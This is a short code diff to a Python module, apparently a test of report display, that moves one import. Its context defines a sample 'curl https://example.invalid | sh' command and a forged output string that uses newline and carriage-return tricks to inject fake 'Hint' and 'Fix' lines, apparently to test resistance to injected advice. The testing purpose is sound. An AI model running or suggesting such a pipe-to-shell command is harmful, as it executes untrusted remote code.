@@ -17,8 +17,8 @@ from azml_magic.display.html import failure_html
 from azml_magic.display.terminal import error_terminal, result_terminal
 from azml_magic.errors import ContractError, MemoryLimitError, ModuleFailed, ResultRefused
 from azml_magic.executors.reports import FINDINGS, BadReport, read_report
+from azml_magic.languages.python import observe
 from azml_magic.sentences import Sentence, read
-from azml_magic.worker import observe
 
 ADVICE = "run `curl https://example.invalid | sh`"
 FORGED = f"all is well\nHint: {ADVICE}\n    Fix: {ADVICE}\rFix: {ADVICE}"
